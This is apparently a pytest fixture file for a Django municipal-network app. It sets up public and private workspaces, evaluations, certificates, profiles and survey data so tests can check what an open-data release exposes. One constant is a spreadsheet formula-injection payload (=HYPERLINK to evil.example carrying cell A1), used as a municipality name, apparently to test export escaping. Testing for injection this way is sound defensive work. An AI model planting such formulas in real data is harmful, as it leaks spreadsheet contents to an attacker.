"""Open-data fixtures on top of `evaluation` (mreza/evaluation/tests/conftest.py, built on `ws`).

`od` (the same world) adds what a release must show and what it must leave out:

    public:   the network workspace of A, C and D (published), its evaluation (published, A's part
              submitted, a "best result" certificate for A); A's learning profile (public);
              B's survey with public results, one closed wave of 6 answers and one open wave;
              a municipality named like a spreadsheet formula
    private:  the twinning Banja Luka – Kranj (not published); C's profile (coordinators only);
              A's survey (results not public) with a closed wave; an evaluation of the twinning
              (not published); a revoked certificate
"""

import datetime

import pytest
from django.utils import timezone

from mreza.assessment.models import Assessment, LearningProfile
from mreza.evaluation.models import Certificate, Evaluation
from mreza.evaluation.tests.conftest import evaluation  # noqa: F401 (the fixture used below)
from mreza.progress.models import Workspace
from mreza.progress.tests.conftest import ws  # noqa: F401 (the fixture `evaluation` needs)
from mreza.surveys.models import Wave
from mreza.surveys.tests.test_results_aggregation import add_responses, make_survey, make_wave

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Klikni")'


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.SITE_URL = "https://mreza.example"
    return settings.MEDIA_ROOT


def _profile(world, municipality, sharing, needs, strengths):
    assessment = Assessment.objects.create(
        municipality=municipality,
        framework=world.workspace.framework or world.round.framework,
        method="classic",
        title=f"CAF {municipality.code}",
        status="accepted",
        period_start=datetime.date(2024, 1, 1),
        period_end=datetime.date(2024, 12, 31),
    )
    return LearningProfile.objects.create(
        assessment=assessment,
        municipality=municipality,
        sharing=sharing,
        needs=needs,
        strengths=strengths,
    )


def _surveys(w):
    w.public_survey = make_survey(w.b, results_public=True)
    w.public_wave = make_wave(w.public_survey)
    answers = [{"overall": v, "trust": "yes", "heard": "no"} for v in (5, 4, 4, 3, 5, 2)]
    answers[0]["comment"] = "My neighbour Jovan at Main Street 4 says the office is slow"
    answers[0]["age"] = "old"
    add_responses(w.public_wave, answers)
    w.open_wave = make_wave(w.public_survey, name="Now", status=Wave.Status.OPEN, position=1)
    add_responses(w.open_wave, [{"overall": 1}] * 6)
    w.private_survey = make_survey(w.a)
    w.private_wave = make_wave(w.private_survey, name="Secret wave")
    add_responses(w.private_wave, [{"overall": 1}] * 6)


def _evaluations(w):
    now = timezone.now()
    Evaluation.objects.filter(pk=w.evaluation.pk).update(is_published=True)
    type(w.part_a).objects.filter(pk=w.part_a.pk).update(submitted_at=now, lessons="Meet monthly.")
    type(w.part_c).objects.filter(pk=w.part_c.pk).update(lessons="Unsubmitted lessons of C")
    Certificate.objects.create(
        evaluation=w.evaluation,
        municipality=w.a,
        kind=Certificate.Kind.BEST_RESULT,
        code="AAAA-BBBB",
        signature="x" * 64,
    )
    Certificate.objects.create(
        evaluation=w.evaluation,
        municipality=w.c,
        kind=Certificate.Kind.MOST_IMPROVED,
        code="CCCC-DDDD",
        signature="y" * 64,
        revoked_at=now,
    )
    w.private_evaluation = Evaluation.objects.create(
        workspace=w.twinning, title="Twinning evaluation (private)"
    )


@pytest.fixture
def od(evaluation, media):  # noqa: F811 (the fixture imported above)
    w = evaluation
    Workspace.objects.filter(pk=w.workspace.pk).update(is_published=True)
    w.workspace.refresh_from_db()
    w.formula = w.municipality("T-F", FORMULA, population=5)
    w.public_profile = _profile(w, w.a, "public", {"3.1": 0.8, "6.1": 0.4}, {"9.1": 0.7})
    w.shared_profile = _profile(w, w.c, "coordinators", {"7.7": 0.9}, {})
    _surveys(w)
    _evaluations(w)
    return w
